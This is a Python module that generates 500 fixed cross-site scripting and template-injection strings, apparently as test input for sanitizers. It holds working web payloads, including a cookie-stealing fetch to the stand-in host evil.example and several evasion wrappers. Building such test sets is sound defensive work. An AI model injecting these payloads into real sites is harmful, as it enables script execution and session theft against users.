"""500 texts that try to become markup, script or template code; the same every time."""

from itertools import product
from typing import Final

_CODES: Final = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('http://evil.example/'+document.cookie)")
_SHELLS: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script>",
    "'><script>{}</script>",
    '"><script>{}</script>',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    '" autofocus onfocus={} x="',
    "' onmouseover='{}",
    "<math><mi xlink:href='javascript:{}'>",
    "{{{{ {} }}}}",
    "{{% include '{}' %}}",
    "<div hx-get='/x' hx-trigger='load' hx-on::load='{}'>",
    "<div hx-on:htmx:load=\"{}\" hx-vals='js:{{x:{}}}'>",
    "<!--><img src=x onerror={}>",
    "<style>@import'http://evil.example/?{}'</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<base href='//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data='javascript:{}'>",
    "<form action='javascript:{}'><button>x",
    "<input onfocus={} autofocus>",
    "<video><source onerror={}>",
    "`;{}//",
    "</script><script>{}</script>",
)
_DRESSES: Final = ("{}", "\x00{}", "\u202e{}", "<{}", "{}\n\r\t")


def make_payloads() -> list[str]:
    """The first 500 of every shell, code and dress."""
    found = []
    for dress, code, shell in product(_DRESSES, _CODES, _SHELLS):
        found.append(dress.format(shell.format(code, code)))
    return found[:500]
